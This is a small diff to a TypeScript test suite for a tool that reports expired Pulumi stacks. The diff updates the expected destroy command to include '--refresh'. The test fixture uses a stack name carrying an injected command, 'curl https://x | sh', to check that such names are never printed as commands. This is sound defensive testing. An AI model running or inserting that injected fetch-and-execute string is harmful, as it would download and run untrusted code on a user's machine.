@@ -26,7 +26,7 @@ describe("sinks", () => {
   it("expired never prints a name that is no stack name as a command", () => {
     const facts = { source: "x.json", stack: "bolat; curl https://x | sh #", expires: "2020-01-01", nodes: [] };
     const { expired } = expiredStacks([facts], "2026-01-01T00:00:00Z");
-    expect(expired[0]!.destroy).toBe("npx pulumi destroy --stack <name> (x.json names no valid stack: see `npx pulumi stack ls`)");
+    expect(expired[0]!.destroy).toBe("npx pulumi destroy --refresh --stack <name> (x.json names no valid stack: see `npx pulumi stack ls`)");
   });
 
   it("HTML: escapes markup and both quotes", () => {
